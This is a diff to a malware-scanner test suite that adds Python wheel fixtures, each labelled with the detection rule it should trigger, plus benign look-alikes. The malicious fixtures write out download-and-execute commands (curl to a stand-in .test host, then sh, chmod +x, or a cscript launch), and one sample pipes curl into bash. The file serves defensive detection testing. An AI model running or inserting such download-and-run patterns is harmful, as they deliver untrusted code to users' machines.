@@ -31,6 +31,37 @@ export const samples: Samples = {
       expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 2, severity: 'critical' }],
     },
     {
+      name: 'Python: a download under a name that nothing tells, started by an interpreter',
+      files: wheel(
+        'import os, tempfile\nplace = tempfile.mktemp()\nos.system("curl -o " + place + " https://files.weir.test/a")\nos.system("sh " + place)\n',
+      ),
+      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 3, severity: 'critical' }],
+    },
+    {
+      name: 'Python: the same, made executable',
+      files: wheel(
+        'import os, sys\nplace = sys.argv[1]\nos.system("curl -o " + place + " https://files.weir.test/a")\nos.system("chmod +x " + place)\n',
+      ),
+      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 3, severity: 'critical' }],
+    },
+    {
+      name: 'Python: a script host that code starts with what it wrote',
+      files: wheel(
+        'import subprocess, sys\ndef show():\n    subprocess.run(["cscript", "/NoLogo", sys.argv[1] + "/own.vbs"])\n',
+      ),
+      expected: [{ rule: 'system-loader', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: a script host that code starts with a script of the package',
+      files: {
+        ...wheel(
+          'import os, subprocess\ndef show():\n    subprocess.run(["cscript", "/NoLogo", os.path.join(os.path.dirname(__file__), "own.vbs")])\n',
+        ),
+        'own/own.vbs': 'WScript.Echo 1\r\n',
+      },
+      expected: [{ rule: 'system-loader', file: 'own/__init__.py', line: 3, severity: 'medium' }],
+    },
+    {
       name: 'download piped into a shell',
       files: hooked('curl -s http://a.weir.test/x | bash'),
       expected: [at('download-and-run', 'critical')],
@@ -221,6 +252,18 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: a download that is tried again, and one that is unpacked',
+      wheel(
+        'import os\ndef fetch(url, place):\n    os.system(f"curl -L {url} -o {place}")\n    os.system(f"curl -L {url} -o {place} --retry 3")\n    os.system(f"tar xf {place} --directory {place}")\n',
+      ),
+    ),
+    quiet(
+      'Python: a service of the machine that is asked through its socket',
+      wheel(
+        'import os\ndef address():\n    return os.popen("curl -s --unix-socket /run/docker.sock http://docker/containers/$HOSTNAME/json").read()\n',
+      ),
+    ),
     quiet(
       'a value that is handed on',
       hooked(`node -p "require('./package.json').version" | xargs npm version && cat VERSION | tr a b`),
